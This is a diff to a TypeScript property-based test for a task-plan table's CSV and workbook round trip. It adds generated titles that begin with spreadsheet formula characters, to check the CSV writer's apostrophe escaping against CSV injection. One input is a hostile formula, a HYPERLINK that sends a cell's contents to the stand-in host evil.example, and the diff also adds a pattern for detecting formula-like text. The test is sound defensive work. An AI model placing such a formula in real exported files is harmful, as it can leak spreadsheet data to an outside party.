@@ -2,8 +2,10 @@
 // same plan, for plans generated over everything the table keeps: every target
 // kind, owners with bracketed names, leaders, dates, paces and trajectories,
 // observations with and without units and notes, flags, cancellations, x- keys
-// with any JSON value, and text with commas, quotes, line breaks, escapes and
-// characters XML cannot hold. Generated plans avoid the forms the table
+// with any JSON value, and text with commas, quotes, line breaks, escapes,
+// characters XML cannot hold, and starts that a spreadsheet would run as a
+// formula (= + - @ tab CR, with or without apostrophes before them: the CSV
+// writer marks these with a '). Generated plans avoid the forms the table
 // documents as normalised (empty lists, cancelled: null, empty optional texts);
 // observations are generated in date order. A plan-level trajectory is not generated
 // (it would constrain every task's window); task-level trajectories are.
@@ -13,7 +15,14 @@ import { formatPlanCsv, parsePlanCsv, readPlanWorkbook, writePlanWorkbook } from
 import { parsePlan, type Plan } from '../../src/index.js';
 
 const CHARS = [...'甲乙丙丁市县区局委办工作任务建设推进(、)()|\\,,"\'\n\t :;。%_xA0123456789abc-'];
-const text = (min = 0) => fc.string({ unit: fc.constantFrom(...CHARS, '\r', '\u0007', '_x0041_', '😀'), minLength: min, maxLength: 12 });
+const plainText = (min: number) => fc.string({ unit: fc.constantFrom(...CHARS, '\r', '\u0007', '_x0041_', '😀'), minLength: min, maxLength: 12 });
+// Starts a spreadsheet would read as a formula, and apostrophes before them: the CSV writer
+// marks such text with a leading ' and the reader removes exactly that mark (OWASP CSV injection).
+const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '-5', '+3', "'", "''", "'=", "''-", "'@", "'\t"];
+const text = (min = 0) =>
+  fc.oneof({ weight: 2, arbitrary: plainText(min) }, { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...FORMULA_LEADS), plainText(0)).map(([lead, rest]) => lead + rest) });
+/** Text that a spreadsheet would run as a formula, or that starts with ' before such a start. */
+const FORMULA_LIKE = /^'*[=+\-@\t\r]/;
 const nonEmpty = text(1).filter((s) => s.trim() !== '');
 const id = fc.string({ unit: fc.constantFrom(...'ABCTW0123456789-甲乙'), minLength: 1, maxLength: 4 });
 const unitName = fc.constantFrom('市发改委', '市住建局', '各县(市、区)', '示范区', '市人社局', '市财政局(国资委)');
@@ -129,11 +138,20 @@ describe('task table round trip (property)', () => {
   }, 120_000);
 
   it('a CSV task table gives back the same plan', () => {
+    const titles = { all: 0, formulaLike: 0, quoted: 0 };
     fc.assert(
       fc.property(planArbitrary, (plan) => {
+        for (const { title } of plan.tasks) {
+          titles.all++;
+          if (FORMULA_LIKE.test(title)) titles.formulaLike++;
+          if (/^'+[=+\-@\t\r]/.test(title)) titles.quoted++;
+        }
         expect(parsePlanCsv(formatPlanCsv(plan), { base: plan })).toEqual(plan);
       }),
       { numRuns: 300 },
     );
+    // The generator really produces titles that start like formulas, and ones that start with ' before that.
+    expect(titles.formulaLike).toBeGreaterThanOrEqual(Math.max(50, titles.all * 0.15));
+    expect(titles.quoted).toBeGreaterThanOrEqual(Math.max(10, titles.all * 0.03));
   });
 });
